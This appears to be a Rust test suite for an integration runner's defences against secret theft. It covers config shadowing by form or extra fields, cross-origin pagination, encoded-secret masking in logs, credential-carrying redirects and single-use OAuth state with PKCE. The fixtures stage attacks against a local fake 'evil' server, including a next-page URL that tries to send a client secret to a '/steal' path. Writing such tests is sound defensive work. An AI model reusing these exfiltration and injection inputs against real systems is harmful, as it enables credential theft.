//! The integration runner cannot be turned against its own secrets: form
//! values and extra fields never shadow config values, pages and redirects
//! chosen by a third party never receive credentials, and every encoding of
//! a secret is masked in step logs and errors (issue 13, items 1–5).

use base64::Engine as _;
use reqwest::{Method, StatusCode};
use serde_json::{json, Value};

use crate::both_backends;
use crate::common::fake_api::{Answer, FakeApi};
use crate::common::{Backend, TestApp};
use crate::integrations::{authorize, create_integration, point_at, run_wait};
use crate::security::create_token;

both_backends!(
    form_and_extra_fields_never_shadow_config,
    sync_pages_stay_on_the_first_origin,
    encoded_secrets_are_masked_in_step_logs,
    form_and_callback_errors_are_masked,
    redirects_keep_credentials_on_their_origin,
    oauth_state_is_redeemed_once_with_pkce,
);

async fn set_config(app: &TestApp, id: &str, values: Value) {
    let (status, v) = app
        .call(
            Method::PUT,
            &format!("/v1/integrations/{id}/config"),
            Some(&json!({ "values": values })),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{v}");
}

/// A query parameter of `url`.
fn param(url: &url::Url, name: &str) -> String {
    url.query_pairs()
        .find(|(k, _)| k == name)
        .unwrap_or_else(|| panic!("no {name} in {url}"))
        .1
        .to_string()
}

/// `host:port` of a fake API.
fn host(fake: &FakeApi) -> String {
    fake.base.trim_start_matches("http://").to_string()
}

async fn form_and_extra_fields_never_shadow_config(backend: Backend) {
    let Some(app) = TestApp::start(backend).await else {
        return;
    };
    let (api, evil) = (FakeApi::start().await, FakeApi::start().await);
    let manifest = json!({
        "initial_data_form": [{"id": "DOMAIN", "name": "Domain"}, {"id": "API_TOKEN", "name": "Token"}],
        "headers": {"Authorization": "Bearer {{ API_TOKEN }}"},
        "form": [{"id": "TEAM", "name": "Team", "type": "choice", "items": [{"id": "t1", "name": "One"}]}],
        "execute": [{"url": "http://{{ DOMAIN }}/hire", "method": "POST", "data": {"team": "{{ TEAM }}"}}]
    });
    let id = create_integration(&app, "webhook", manifest).await;
    set_config(
        &app,
        &id,
        json!({"DOMAIN": host(&api), "API_TOKEN": "tok-config-secret"}),
    )
    .await;
    api.script("POST", "/hire", vec![Answer::json(200, json!({}))]);
    evil.script("POST", "/hire", vec![Answer::json(200, json!({}))]);
    let runner = create_token(&app, "runner", &["integrations:run"]).await.1;

    // A form key that is not a form id is refused, naming it; nothing runs.
    let path = format!("/v1/integrations/{id}/runs?wait=true");
    let (status, v) = app
        .call_as(
            &runner,
            Method::POST,
            &path,
            Some(&json!({"form": {"DOMAIN": host(&evil)}})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["error"]["field"], "form.DOMAIN", "{v}");
    assert!(
        v["error"]["message"].as_str().unwrap().contains("TEAM"),
        "{v}"
    );
    // A choice value outside its static items is refused too.
    let (status, v) = app
        .call_as(
            &runner,
            Method::POST,
            &path,
            Some(&json!({"form": {"TEAM": "t9"}})),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["error"]["field"], "form.TEAM", "{v}");
    assert_eq!(app.count_rows("runs"), 0);
    // So is a trigger carrying such a form.
    let (status, v) = app
        .patch(
            &format!("/v1/integrations/{id}"),
            &json!({"triggers": [{"event_type": "user.updated", "form": {"API_TOKEN": "x"}}]}),
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
    assert_eq!(v["error"]["field"], "triggers[0].form.API_TOKEN", "{v}");

    // A user whose extra fields (say, another integration's store_data)
    // name a config id: the config value still wins.
    let (status, u) = app
        .post(
            "/v1/users",
            &json!({"email": "ada@example.com", "first_name": "Ada", "last_name": "L",
                    "extra_fields": {"DOMAIN": host(&evil), "API_TOKEN": "from-extra", "oauth": {"access_token": "x"}}}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{u}");
    let run = run_wait(
        &app,
        &id,
        json!({"user_id": u["id"], "form": {"TEAM": "t1"}}),
    )
    .await;
    assert_eq!(run["status"], "succeeded", "{run}");
    let seen = api.seen_on("POST", "/hire");
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some("Bearer tok-config-secret")
    );
    assert_eq!(seen[0].json(), json!({"team": "t1"}));
    assert!(evil.seen().is_empty(), "the caller's host was reached");
    api.stop().await;
    evil.stop().await;
    app.stop().await;
}

async fn sync_pages_stay_on_the_first_origin(backend: Backend) {
    let Some(app) = TestApp::start(backend).await else {
        return;
    };
    let (hr, evil) = (FakeApi::start().await, FakeApi::start().await);
    let manifest = point_at(
        r#"{"action": "create", "initial_data_form": [{"id": "CLIENT_SECRET", "name": "Secret"}],
            "headers": {"X-Api-Key": "{{ CLIENT_SECRET }}"},
            "execute": [{"url": "FAKE/users", "method": "GET"}],
            "data_from": "people", "next_page_from": "next", "amount_pages_to_fetch": 5,
            "data_structure": {"email": "mail", "first_name": "f", "last_name": "l"}}"#,
        &hr,
    );
    let id = create_integration(&app, "sync_users", manifest).await;
    set_config(&app, &id, json!({"CLIENT_SECRET": "cs-very-secret"})).await;
    let person = |m: &str| json!({"mail": m, "f": "F", "l": "L"});
    // Page 2 is on the same origin and its URL carries a template: used as
    // written, never rendered. Page 3 points elsewhere: refused.
    hr.script(
        "GET",
        "/users",
        vec![Answer::json(
            200,
            json!({"people": [person("a@example.com")], "next": "/page2?k={{ CLIENT_SECRET }}"}),
        )],
    );
    hr.script(
        "GET",
        "/page2",
        vec![Answer::json(
            200,
            json!({"people": [person("b@example.com")], "next": format!("{}/steal?k={{{{ CLIENT_SECRET }}}}", evil.base)}),
        )],
    );
    let run = run_wait(&app, &id, json!({})).await;
    assert_eq!(run["status"], "failed", "{run}");
    let error = run["error"].as_str().unwrap();
    assert!(
        error.contains("page 3") && error.contains("origin"),
        "{error}"
    );
    let steps = run["steps"].as_array().unwrap();
    assert_eq!(steps.len(), 3, "{run}");
    assert_eq!(steps[2]["label"], "page 3");
    assert!(
        steps[2]["error"].as_str().unwrap().contains("origin"),
        "{run}"
    );
    assert!(
        evil.seen().is_empty(),
        "a page was fetched from another origin"
    );
    let page2 = hr.seen_on("GET", "/page2");
    assert_eq!(page2.len(), 1);
    assert!(
        !page2[0].query.contains("cs-very-secret"),
        "{}",
        page2[0].query
    );
    assert!(
        page2[0].query.contains("CLIENT_SECRET"),
        "{}",
        page2[0].query
    );
    assert_eq!(page2[0].header("x-api-key"), Some("cs-very-secret"));
    // A failed sync imports nothing.
    assert_eq!(app.count_rows("users"), 0);
    hr.stop().await;
    evil.stop().await;
    app.stop().await;
}

/// Contains every character the issue names: `~ / + & " \ é`.
const SECRET: &str = "s3~cr/et+&\"q\\\u{e9} z";

async fn encoded_secrets_are_masked_in_step_logs(backend: Backend) {
    let Some(app) = TestApp::start(backend).await else {
        return;
    };
    let fake = FakeApi::start().await;
    let manifest = point_at(
        r#"{"initial_data_form": [{"id": "TOKEN", "name": "Token"}],
            "execute": [
              {"url": "FAKE/q?t={{ TOKEN|urlencode }}", "method": "GET"},
              {"url": "FAKE/form", "method": "POST", "headers": {"Content-Type": "application/x-www-form-urlencoded"}, "data": {"t": "{{ TOKEN }}"}},
              {"url": "FAKE/json", "method": "POST", "data": {"t": "{{ TOKEN }}"}},
              {"url": "FAKE/basic", "method": "GET", "headers": {"Authorization": "Basic me:{{ TOKEN }}"}}
            ]}"#,
        &fake,
    );
    let id = create_integration(&app, "webhook", manifest).await;
    set_config(&app, &id, json!({"TOKEN": SECRET})).await;
    // The API echoes the token back as JSON (escaped).
    for path in ["/q", "/form", "/json", "/basic"] {
        let method = if path == "/form" || path == "/json" {
            "POST"
        } else {
            "GET"
        };
        fake.script(
            method,
            path,
            vec![Answer::json(200, json!({"echo": SECRET}))],
        );
    }
    let run = run_wait(&app, &id, json!({})).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    // What went out really carried the secret, encoded.
    let form = fake.seen_on("POST", "/form");
    let sent: Vec<(String, String)> = url::form_urlencoded::parse(&form[0].body)
        .into_owned()
        .collect();
    assert_eq!(sent, [("t".to_string(), SECRET.to_string())]);
    assert_eq!(
        fake.seen_on("POST", "/json")[0].json(),
        json!({"t": SECRET})
    );

    let (_, stored) = app
        .get(&format!("/v1/runs/{}", run["id"].as_str().unwrap()))
        .await;
    let text = stored.to_string();
    let b64 = base64::engine::general_purpose::STANDARD;
    let encoded: Vec<String> = vec![
        SECRET.into(),
        url::form_urlencoded::byte_serialize(SECRET.as_bytes()).collect(),
        "s3~cr/et%2B%26%22q%5C%C3%A9%20z".into(),
        serde_json::to_string(SECRET)
            .unwrap()
            .trim_matches('"')
            .into(),
        b64.encode(SECRET),
        b64.encode(format!("me:{SECRET}")),
    ];
    for e in &encoded {
        // As the API shows it: inside JSON strings, escaped once more.
        let shown = serde_json::to_string(e).unwrap();
        let shown = shown.trim_matches('"');
        assert!(!text.contains(shown), "{e:?} is visible in the run: {text}");
    }
    assert!(text.contains("***TOKEN***"), "{text}");
    assert!(!app.table_text("run_steps").contains("s3~cr"));
    fake.stop().await;
    app.stop().await;
}

async fn form_and_callback_errors_are_masked(backend: Backend) {
    let Some(app) = TestApp::start(backend).await else {
        return;
    };
    // Both URLs render to something that is not a URL, and the error quotes it.
    let manifest = json!({
        "initial_data_form": [{"id": "CLIENT_ID", "name": "Id"}, {"id": "CLIENT_SECRET", "name": "Secret"}],
        "form": [{"id": "TEAM", "name": "Team", "type": "choice", "url": "http://[{{ CLIENT_SECRET }}/teams", "data_from": "data"}],
        "oauth": {
            "authenticate_url": "https://provider.example/authorize?client_id={{ CLIENT_ID }}",
            "access_token": {"url": "http://[bad/token?client_secret={{ CLIENT_SECRET }}", "method": "POST"}
        },
        "execute": [{"url": "https://x.example/", "method": "GET"}]
    });
    let id = create_integration(&app, "webhook", manifest).await;
    set_config(
        &app,
        &id,
        json!({"CLIENT_ID": "cid", "CLIENT_SECRET": "oauth-client-secret-1"}),
    )
    .await;

    let (status, form) = app.get(&format!("/v1/integrations/{id}/form")).await;
    assert_eq!(status, StatusCode::OK, "{form}");
    assert!(form["items"][0]["error"].is_string(), "{form}");
    assert!(
        !form.to_string().contains("oauth-client-secret-1"),
        "{form}"
    );
    let (_, run) = app
        .get(&format!("/v1/runs/{}", form["run_id"].as_str().unwrap()))
        .await;
    assert_eq!(run["status"], "failed", "{run}");
    assert!(!run.to_string().contains("oauth-client-secret-1"), "{run}");

    let location = authorize(&app, &id).await;
    let state = param(&location, "state");
    let (status, v) = crate::common::read(
        reqwest::get(format!(
            "{}/oauth/callback?code=c0de&state={state}",
            app.base
        ))
        .await
        .unwrap(),
    )
    .await;
    assert_eq!(status, StatusCode::CONFLICT, "{v}");
    assert!(!v.to_string().contains("oauth-client-secret-1"), "{v}");
    assert!(v.to_string().contains("***CLIENT_SECRET***"), "{v}");
    assert!(!app.table_text("runs").contains("oauth-client-secret-1"));
    assert!(!app
        .table_text("run_steps")
        .contains("oauth-client-secret-1"));
    app.stop().await;
}

async fn redirects_keep_credentials_on_their_origin(backend: Backend) {
    let Some(app) = TestApp::start(backend).await else {
        return;
    };
    let (api, other) = (FakeApi::start().await, FakeApi::start().await);
    let manifest = |extra: &str| {
        point_at(
            &format!(
                r#"{{"initial_data_form": [{{"id": "KEY", "name": "Key"}}],
                    "headers": {{"X-Api-Key": "{{{{ KEY }}}}"}},
                    "execute": [{{"url": "FAKE/start", "method": "POST", "data": {{"key": "{{{{ KEY }}}}"}}{extra}}}]}}"#
            ),
            &api,
        )
    };
    other.script("GET", "/land", vec![Answer::json(200, json!({}))]);
    other.script("POST", "/land", vec![Answer::json(200, json!({}))]);
    api.script(
        "POST",
        "/same",
        vec![Answer::json(200, json!({"ok": true}))],
    );

    // Same origin, 307: followed with the headers and the body.
    api.script("POST", "/start", vec![Answer::redirect(307, "/same")]);
    let plain = create_integration(&app, "webhook", manifest("")).await;
    set_config(&app, &plain, json!({"KEY": "api-key-secret"})).await;
    let run = run_wait(&app, &plain, json!({})).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    let same = api.seen_on("POST", "/same");
    assert_eq!(same[0].header("x-api-key"), Some("api-key-secret"));
    assert_eq!(same[0].json(), json!({"key": "api-key-secret"}));

    // Another origin: refused, nothing reaches it.
    for status in [302, 307] {
        api.script(
            "POST",
            "/start",
            vec![Answer::redirect(status, &format!("{}/land", other.base))],
        );
        let run = run_wait(&app, &plain, json!({})).await;
        assert_ne!(run["status"], "succeeded", "{run}");
        let error = run["error"].as_str().unwrap();
        assert!(error.contains("another origin"), "{error}");
    }
    assert!(other.seen().is_empty(), "credentials followed a redirect");

    // Opted in: a 302 is followed as a GET without the manifest's headers;
    // a 307 would resend the body, so it is still refused.
    let opted = create_integration(
        &app,
        "webhook",
        manifest(r#", "allow_cross_origin_redirects": true"#),
    )
    .await;
    set_config(&app, &opted, json!({"KEY": "api-key-secret"})).await;
    api.script(
        "POST",
        "/start",
        vec![Answer::redirect(302, &format!("{}/land", other.base))],
    );
    let run = run_wait(&app, &opted, json!({})).await;
    assert_eq!(run["status"], "succeeded", "{run}");
    let landed = other.seen_on("GET", "/land");
    assert_eq!(landed.len(), 1);
    assert_eq!(landed[0].header("x-api-key"), None);
    assert!(landed[0].body.is_empty());
    api.script(
        "POST",
        "/start",
        vec![Answer::redirect(307, &format!("{}/land", other.base))],
    );
    let run = run_wait(&app, &opted, json!({})).await;
    assert_ne!(run["status"], "succeeded", "{run}");
    assert!(other.seen_on("POST", "/land").is_empty());
    api.stop().await;
    other.stop().await;
    app.stop().await;
}

async fn oauth_state_is_redeemed_once_with_pkce(backend: Backend) {
    let Some(app) = TestApp::start(backend).await else {
        return;
    };
    let fake = FakeApi::start().await;
    let manifest = point_at(
        r#"{"oauth": {"pkce": true, "authenticate_url": "FAKE/authorize", "access_token": {"url": "FAKE/token", "method": "POST"}},
            "execute": [{"url": "FAKE/me", "method": "GET"}]}"#,
        &fake,
    );
    let id = create_integration(&app, "webhook", manifest).await;
    fake.script(
        "POST",
        "/token",
        vec![Answer::json(200, json!({"access_token": "at-123456789"}))],
    );
    let location = authorize(&app, &id).await;
    let state = param(&location, "state");
    // PKCE: the provider gets the S256 challenge now, the verifier later.
    let challenge = param(&location, "code_challenge");
    assert!(location
        .query()
        .unwrap()
        .contains("code_challenge_method=S256"));
    // Eight callbacks with the same state at once: one is connected.
    let calls = (0..8).map(|_| {
        let url = format!("{}/oauth/callback?code=c&state={state}", app.base);
        async move { reqwest::get(url).await.unwrap().status() }
    });
    let statuses = futures_util::future::join_all(calls).await;
    let ok = statuses.iter().filter(|s| s.is_success()).count();
    assert_eq!(ok, 1, "{statuses:?}");
    let token_calls = fake.seen_on("POST", "/token");
    assert_eq!(token_calls.len(), 1);
    let verifier = url::form_urlencoded::parse(token_calls[0].query.as_bytes())
        .find(|(k, _)| k == "code_verifier")
        .expect("a code_verifier")
        .1
        .to_string();
    let hashed = base64::engine::general_purpose::URL_SAFE_NO_PAD
        .encode(<sha2::Sha256 as sha2::Digest>::digest(verifier.as_bytes()));
    assert_eq!(hashed, challenge);
    fake.stop().await;
    app.stop().await;
}
